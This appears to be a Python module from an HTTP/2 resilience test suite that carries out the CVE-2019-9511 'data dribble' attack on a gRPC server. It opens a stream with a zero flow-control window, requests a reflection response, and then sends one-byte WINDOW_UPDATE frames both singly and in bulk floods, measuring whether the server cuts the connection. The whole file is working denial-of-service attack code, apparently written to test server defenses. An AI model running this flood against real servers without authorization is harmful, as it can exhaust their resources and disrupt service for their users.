"""Tiny window updates (CVE-2019-9511, "data dribble"): one byte at a time."""

import dataclasses
import time

from frames import (
    PREFACE, REFLECT, Peer, Report, block, call, flood, settings, window_update)

LIMIT = "`floodFramesBurst` 1,000 WINDOW_UPDATEs beyond two for each frame sent"
RULE = "closed within 1 s; one a turn is a byte for 13 bytes and bounded by the turns"
# ServerReflectionRequest(file_containing_symbol="motcua.v1.DossierService").
BIG = b"\x22\x18motcua.v1.DossierService"


def dribble(target, report):
    """One WINDOW_UPDATE after the other, each when the byte of the last has arrived."""
    peer = Peer(target, hello=PREFACE + settings(initial_window=0))
    peer.send(call(1, block(REFLECT), BIG, end=False))
    update = window_update(1, 1)
    end = time.monotonic() + target.seconds
    while time.monotonic() < end and not peer.is_closed:
        before = peer.data_bytes
        peer.send(update)
        report.units += 1
        if not peer.pump(1, lambda: peer.data_bytes > before):
            break
    report.connections += 1
    report.bytes += 13 * report.units
    word = peer.farewell()
    peer.close()
    return word


def run(target):
    half = dataclasses.replace(target, seconds=target.seconds / 2)
    report = Report()
    word = dribble(half, report)
    hello = settings(initial_window=0) + call(1, block(REFLECT), BIG, end=False)
    bulk = flood(half, hello, [(window_update(1, 1) * 200, 200)] * 200, 1_010)
    report.is_refused, report.slowest = bulk.is_refused, bulk.slowest
    report.connections += bulk.connections
    report.units += bulk.units
    report.bytes += bulk.bytes
    report.what = f"in bulk: {bulk.what}; one a turn: {word}"
    return report
